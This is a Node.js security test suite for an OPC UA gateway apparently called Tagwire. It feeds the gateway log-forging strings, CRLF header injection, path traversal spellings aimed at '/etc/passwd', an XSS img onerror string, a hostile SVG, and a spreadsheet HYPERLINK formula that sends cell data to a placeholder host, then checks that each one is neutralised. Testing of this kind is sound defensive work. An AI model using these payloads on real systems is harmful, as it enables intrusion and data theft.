/// Words from outside stay words: in the log, in headers, in names of files, in tables for spreadsheets, on pages.
import assert from 'node:assert/strict';
import { readdir } from 'node:fs/promises';
import net from 'node:net';
import { after, before, describe, it } from 'node:test';

import { Browser } from './lib/browser.mjs';
import { noSimulator, opcUa } from './lib/config.mjs';
import { get, request } from './lib/http.mjs';
import { OpcUaPeer } from './lib/opcua-peer.mjs';
import { Tagwire } from './lib/tagwire.mjs';
import { eventually, within } from './lib/wait.mjs';

const sources = '/api/v1/opcua/sources';
const json = { 'content-type': 'application/json' };
/// What a page shows of it, if it is not taken for HTML.
const markup = '<img src=x onerror="document.title=1">';
const formula = '=HYPERLINK("http://192.0.2.1/?"&A1)';

describe('words from outside', () => {
  let plant, tagwire;
  before(async () => {
    plant = await OpcUaPeer.start([
      { name: 'Text', type: 'String', value: formula },
      { name: 'Markup', type: 'String', value: markup },
      { name: 'Level', type: 'Double', value: 5, unit: markup, range: [0, 10] },
    ]);
    const tags = { [formula]: plant.node('Text'), [`Hall.${markup}`]: plant.node('Markup'), [`Hall.Level ${markup}`]: plant.node('Level') };
    tagwire = await Tagwire.start({ config: noSimulator + opcUa(`plc ${markup}`, plant.endpoint, tags) });
    await eventually('values', async () => (await get(tagwire, `/api/v1/tags/${encodeURIComponent(`Hall.Level ${markup}`)}`)).json().v === 5, { timeout: 20_000 });
  });
  after(async () => {
    await tagwire?.stop();
    await plant?.stop();
  });

  /// Bytes as they are; the head of the answer.
  function raw(bytes) {
    const socket = net.connect(tagwire.port, '127.0.0.1');
    let answer = '';
    socket.setEncoding('latin1').on('data', (text) => {
      answer += text;
    });
    socket.write(bytes);
    const end = new Promise((resolve) => socket.on('close', () => resolve(answer.split('\r\n\r\n')[0])).on('error', () => {}));
    return within(5000, 'the server closes', end).finally(() => socket.destroy());
  }
  const add = (source) => request(tagwire, sources, { method: 'POST', headers: json, body: JSON.stringify({ policy: 'none', endpoint: 'opc.tcp://127.0.0.1:1', ...source }) });
  const remove = (name) => request(tagwire, `${sources}/${encodeURIComponent(name)}/remove`, { method: 'POST', headers: json, body: '{}' });

  it('forge no line of the log, and send nothing to its terminal', async () => {
    const name = 'a\n2026-01-01T00:00:00.000+0000 error app: forged\r\u001b[2J\u009b31m\u2028\u007f';
    const answer = await add({ name, tags: [{ name: 'Forged', node: 'i=2258' }] });
    assert.equal(answer.status, 200, answer.body);
    await eventually('it is in the log', () => tagwire.log.includes('forged'));
    await remove(name);
    assert.match(tagwire.log, /source 'a\\x0a2026-01-01T00:00:00\.000\+0000 error app: forged\\x0d\\x1b\[2J\\xc2\\x9b31m\\xe2\\x80\\xa8\\x7f'/);
    for (const line of tagwire.log.split('\n').filter(Boolean)) assert.match(line, /^\d{4}-\d\d-\d\dT[\d:.]+[+-]\d\d:\d\d |^Tagwire [\d.]+ is ready|^There is no user yet/, line);
    // Colours of the log itself are only for terminals.
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(tagwire.log, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028]/);
  });

  it('make no header', async () => {
    const evil = '%0d%0aX-Evil:%201%0d%0a%0d%0a';
    for (const target of [`/${evil}`, `/?lang=${evil}`, `/api/v1/tags/${evil}`, `/api/v1/values?tags=${evil}`, `/api/v1/history?tags=${encodeURIComponent(formula)},${evil}&from=0&max=1&format=csv`, `/api/v1/history?tags=${evil}&format=csv&from=0`, `/api/v1/documents/screen/${evil}`, `/api/v1/stream?tags=${evil}`]) {
      const socket = raw(`GET ${target} HTTP/1.1\r\nhost: ${tagwire.host}\r\nconnection: close\r\n\r\n`);
      // An event stream of a tag that is not there is either refused or goes on.
      const head = await socket.catch(() => '');
      assert.doesNotMatch(head, /^x-evil/im, target);
    }
    for (const header of ['origin: http://localhost\r\n x-evil: 1', 'origin: http://localhost\rx-evil: 1', 'if-match: "1"\nx-evil: 1']) {
      const head = await raw(`GET /api/v1/info HTTP/1.1\r\nhost: ${tagwire.host}\r\n${header}\r\nconnection: close\r\n\r\n`);
      assert.doesNotMatch(head, /^x-evil/im, header);
    }
  });

  it('the next page of a table is named by an address that is one', async () => {
    const tags = encodeURIComponent(formula);
    const answer = await get(tagwire, `/api/v1/history?tags=${tags}&from=0&max=1&format=csv&zone=x`);
    if (answer.headers.link) assert.match(answer.headers.link, /^<[\x21\x23-\x3b\x3d\x3f-\x7e]+>; rel="next"$/);
  });

  it('lead to no file: dots and slashes in every spelling', async () => {
    const before = await readdir(tagwire.folder);
    const spellings = ['../x', '..%2fx', '%2e%2e%2fx', '%2e%2e/x', '..%5cx', '..%252fx', '%c0%ae%c0%ae%c0%afx', '....//x', '/etc/passwd', '%2fetc%2fpasswd', 'x%00.toml'];
    for (const name of spellings) {
      for (const prefix of ['/', '/assets/', '/api/v1/documents/screen/', '/api/v1/tags/', '/api/v1/sources/']) {
        const head = await raw(`GET ${prefix}${name} HTTP/1.1\r\nhost: ${tagwire.host}\r\nconnection: close\r\n\r\n`);
        assert.match(head, /^HTTP\/1\.1 40[045] /, prefix + name);
      }
      const put = await request(tagwire, `/api/v1/documents/screen/${name}`, { method: 'PUT', headers: { ...json, 'if-none-match': '*' }, body: '{}' });
      assert([400, 404, 405].includes(put.status), `${name}: ${put.status}`);
    }
    assert.deepEqual(await readdir(tagwire.folder), before);
  });

  it('an added source lies in its folder, whatever its name', async () => {
    const names = ['../../outside', '/etc/outside', '..', '.', 'a/b', 'a\\b', 'nul\u0000byte', 'CON', '-rf', '*'];
    for (const name of names) {
      const answer = await add({ name });
      if (answer.status !== 200) continue;
      assert(answer.json().file.startsWith(`${tagwire.folder}/sources.d/`), answer.body);
      assert.doesNotMatch(answer.json().file.slice(tagwire.folder.length + '/sources.d/'.length), /\/|^\.|[*\\]/);
    }
    assert(!(await readdir(tagwire.folder)).some((name) => name.includes('outside')));
    const files = await readdir(`${tagwire.folder}/sources.d`);
    assert(files.every((file) => /^[\w-]+\.toml$/.test(file)), files.join());
    for (const name of names) await remove(name);
    assert.deepEqual(await readdir(`${tagwire.folder}/sources.d`), []);
  });

  it('an encoded slash may belong to a name, and gets nobody past the gate', async () => {
    const answer = await add({ name: 'hall/1' });
    assert.equal(answer.status, 200, answer.body);
    await eventually('the source is there', async () => (await get(tagwire, '/api/v1/sources/hall%2f1')).json().n === 'hall/1');
    const elsewhere = { headers: { 'x-forwarded-for': '192.0.2.1' } };
    const plain = (await get(tagwire, '/api/v1/opcua/certificates', elsewhere)).status;
    assert([401, 403].includes(plain), String(plain));
    for (const spelling of ['/api/v1%2fopcua/certificates', '/api%2Fv1/opcua%2fcertificates', '/%61pi/v1/opcua/certificates']) {
      const { status } = await get(tagwire, spelling, elsewhere);
      assert([plain, 404].includes(status), `${spelling}: ${status}`);
    }
    assert.equal((await remove('hall/1')).status, 200);
  });

  it('are no formulas in tables for spreadsheets', async () => {
    const target = `/api/v1/history?tags=${encodeURIComponent(formula)}&from=0&format=csv`;
    const body = await eventually('a sample', async () => {
      const answer = await get(tagwire, target);
      return answer.status === 200 && answer.body.includes('live') && answer.body;
    }, { timeout: 10_000 });
    const cell = `"'${formula.replaceAll('"', '""')}"`;
    const lines = body.trim().split('\r\n').slice(1);
    assert(lines.length > 0);
    for (const line of lines) {
      assert(line.startsWith(`${cell},`), line);
      assert(line.includes(`,${cell},`) || !line.includes('Good'), line);
    }
    // Numbers stay numbers.
    await plant.write('Level', { value: -3 });
    const level = `/api/v1/history?tags=${encodeURIComponent(`Hall.Level ${markup}`)}&from=0&format=csv`;
    await eventually('a negative number', async () => /,-3(\.0)?,/.test((await get(tagwire, level)).body), { timeout: 10_000 });
  });

  it('answers with them are never taken for pages', async () => {
    for (const target of [`/${encodeURIComponent(markup)}`, `/api/v1/tags/${encodeURIComponent(markup)}`, `/api/v1/values?tags=${encodeURIComponent(markup)}`, `/api/v1/documents/${encodeURIComponent(markup)}`]) {
      const answer = await get(tagwire, target);
      assert.match(answer.headers['content-type'], /^application\/json/, target);
      assert.equal(answer.headers['x-content-type-options'], 'nosniff', target);
    }
  });

  describe('on pages', () => {
    let browser;
    before(async () => {
      browser = await Browser.start();
    });
    after(() => browser?.stop());

    for (const query of ['page=tags', 'page=overview', 'page=sources', 'page=diagnostics', 'page=dashboards', `page=trends&tags=${encodeURIComponent(`Hall.Level ${markup}`)}`, `page=${encodeURIComponent(markup)}`, `page=screens&screen=${encodeURIComponent(markup)}`, `page=tags&q=${encodeURIComponent(markup)}`]) {
      it(decodeURIComponent(query), async () => {
        const { page, close } = await browser.page({ allow: /404/ });
        await page.goto(`${tagwire.url}/?lang=en&${query}`);
        await page.locator('[data-link=live]').first().waitFor({ state: 'attached' });
        if (query === 'page=tags') await page.locator('[data-tag]', { hasText: 'onerror' }).first().waitFor();
        if (query === 'page=sources') await page.getByText(`plc ${markup}`).first().waitFor();
        await page.waitForTimeout(300);
        assert.equal(await page.locator('img[src=x], [onerror]').count(), 0);
        assert.notEqual(await page.title(), '1');
        await close();
      });
    }

    it('found by Ctrl-K', async () => {
      const { page, close } = await browser.page();
      await page.goto(`${tagwire.url}/?lang=en&page=overview`);
      await page.keyboard.press('Control+k');
      await page.getByRole('dialog').getByRole('combobox').waitFor();
      await page.keyboard.type('<img');
      await page.locator('[data-entry]', { hasText: 'onerror' }).first().waitFor();
      assert.equal(await page.locator('img[src=x], [onerror]').count(), 0);
      await close();
    });

    it('a drawing that was saved past the designer runs nothing', async () => {
      const picture = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 50" onload="document.title=1"><script>document.title = 1</script><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="document.title=1"/></foreignObject><image href="http://192.0.2.1/c"/><rect width="100" height="50" onclick="document.title=1"/></svg>`;
      const screen = { format: 1, title: markup, width: 1000, height: 600, background: 'panel', pipes: [], elements: [{ id: 'logo', symbol: 'picture', x: 10, y: 10, width: 100, height: 50, parameters: { picture: 'logo' } }], pictures: { logo: picture } };
      const saved = await request(tagwire, '/api/v1/documents/screen/hostile', { method: 'PUT', headers: { ...json, 'if-none-match': '*' }, body: JSON.stringify(screen) });
      assert(saved.status < 300, saved.body);
      const { page, close } = await browser.page();
      await page.goto(`${tagwire.url}/?lang=en&page=screens&screen=hostile`);
      await page.getByText(markup).first().waitFor();
      await page.waitForTimeout(300);
      assert.equal(await page.locator('script:not([src]):not([type]), foreignObject, image[href^=http], [onload], [onclick], [onerror]').count(), 0);
      assert.notEqual(await page.title(), '1');
      await close();
    });
  });
});
